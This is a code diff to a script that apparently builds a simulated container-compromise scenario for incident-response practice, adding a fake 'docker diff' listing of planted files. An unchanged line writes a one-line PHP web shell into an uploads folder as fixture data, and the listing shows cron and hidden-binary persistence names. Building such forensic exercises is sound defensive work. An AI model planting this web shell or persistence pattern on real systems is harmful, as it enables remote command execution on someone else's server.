@@ -188,6 +188,12 @@ write(DOCKER + "overlay2/%s/diff/var/www/html/uploads/x.php" % WEB_MOUNT,
       "<?php system($_GET['c']); ?>\n", epoch("09:10:02"))
 write(DOCKER + "overlay2/%s/diff/var/lib/worker/state.db" % BILLING_MOUNT, "SQLite format 3\x00", epoch("09:30:00"))
 
+# the responder's `docker diff shop-web-1` (moby pkg/archive/changes.go over the overlay2 upper dir, sorted by path):
+# every directory above an added file is listed C (copied up), though nothing but its entries changed
+write("hosts/i-0abc1234def567890/responder/docker-diff-%s.txt" % WEB, "".join(l + "\n" for l in [
+    "C /etc", "C /etc/cron.d", "A /etc/cron.d/kworker", "C /tmp", "A /tmp/.x", "A /tmp/.x/kworkerd", "C /var",
+    "C /var/www", "C /var/www/html", "C /var/www/html/uploads", "A /var/www/html/uploads/x.php"]))
+
 # dockerd's journal (journalctl -u docker -o json), dockerd 25.0.3 with "debug": true in daemon.json
 _cursor = [0]
 def journal(t_epoch_us, msg, unit="docker.service", ident="dockerd", comm="dockerd", pid="1187", host=HOST_A, extra=None):
